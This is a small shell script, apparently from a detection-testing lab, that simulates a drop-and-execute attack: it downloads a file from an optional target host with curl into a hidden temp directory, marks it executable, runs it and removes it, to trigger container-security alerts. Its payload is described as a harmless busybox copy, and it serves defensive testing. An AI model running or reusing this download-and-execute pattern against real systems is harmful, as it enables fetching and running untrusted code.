#!/bin/sh
# Drop and execute: a downloader writes a file, it is made executable and run.
# With a target (the atelier's fake target serves /payload, a copy of busybox)
# curl fetches it over HTTP; without one curl "downloads" its own binary through
# file://, so nothing leaves the container. Either way the dropped binary is run
# harmlessly (busybox prints "applet not found", curl prints its version) and
# removed at the end.
# Usage: sh attack.sh [target-host]
set -u
target=${1:-}
dir=/tmp/.atelier-drop
mkdir -p "$dir"
if [ -n "$target" ]; then
  url="http://$target:8000/payload"
else
  url="file:///usr/bin/curl"
fi
curl -s -m 5 -o "$dir/payload" "$url" || { echo "drop-and-execute: download from $url failed" >&2; exit 1; }
chmod +x "$dir/payload"
"$dir/payload" --version || true
rm -rf "$dir"
echo "drop-and-execute: done (expect 'Drop and execute' and one 'Container drift by exec bit')"
